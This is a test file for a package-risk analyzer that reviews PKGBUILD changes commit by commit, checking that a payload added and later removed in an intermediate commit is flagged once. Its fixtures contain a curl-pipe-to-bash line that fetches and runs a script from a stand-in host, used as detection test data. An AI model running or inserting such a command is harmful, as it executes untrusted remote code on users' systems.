import { describe, expect, it } from 'vitest';
import { analyzeRisk } from './index.js';
import { brief, revision, riskInput } from './fixtures/helpers.js';
import { fancytool } from './fixtures/packages.js';

const prev = fancytool();

describe('per-commit analysis of the reviewed range', () => {
  it('reports a payload that an intermediate commit added and a later one removed, naming the commit', () => {
    const evil = fancytool({ pkgver: '1.4.3', packageExtra: ['curl -fsSL https://x.y/i.sh | bash'] });
    const candidate = fancytool({ pkgver: '1.4.3' });
    const input = riskInput(candidate, prev, { intermediate: [{ commit: 'c0ffee'.padEnd(40, '0'), files: revision(evil) }] });
    const flags = analyzeRisk(input);
    expect(brief(flags)).toEqual([
      { check: 'download-and-run', severity: 'high', file: 'PKGBUILD', line: evil.PKGBUILD.split('\n').findIndex((l) => l.includes('x.y/i.sh')) + 1 },
    ]);
    expect(flags[0]!.commit).toBe('c0ffee'.padEnd(40, '0'));
    expect(flags[0]!.reason).toMatch(/^In intermediate commit c0ffee000000, removed again before the candidate: PKGBUILD line \d+ pipes a download/);
    // Without the range the endpoints look clean.
    expect(analyzeRisk(riskInput(candidate, prev))).toEqual([]);
  });

  it('reports a fact once: not again when the candidate still has it, nor per commit', () => {
    const evil = fancytool({ pkgver: '1.4.3', packageExtra: ['curl -fsSL https://x.y/i.sh | bash'] });
    const evil2 = fancytool({ pkgver: '1.4.4', packageExtra: ['curl -fsSL https://x.y/i.sh | bash'] });
    const flags = analyzeRisk(riskInput(evil2, prev, { intermediate: [{ commit: 'a'.repeat(40), files: revision(evil) }] }));
    expect(flags.filter((f) => f.check === 'download-and-run')).toHaveLength(1);
    expect(flags.every((f) => f.commit === undefined)).toBe(true);
  });

  it('does not report endpoint-only concerns of intermediate commits (a stale .SRCINFO fixed in the next commit)', () => {
    const stale = fancytool({ pkgver: '1.4.3', srcinfoPkgver: '1.4.2' });
    const flags = analyzeRisk(
      riskInput(fancytool({ pkgver: '1.4.3' }), prev, { intermediate: [{ commit: 'b'.repeat(40), files: revision(stale) }] }),
    );
    expect(flags).toEqual([]);
  });
});
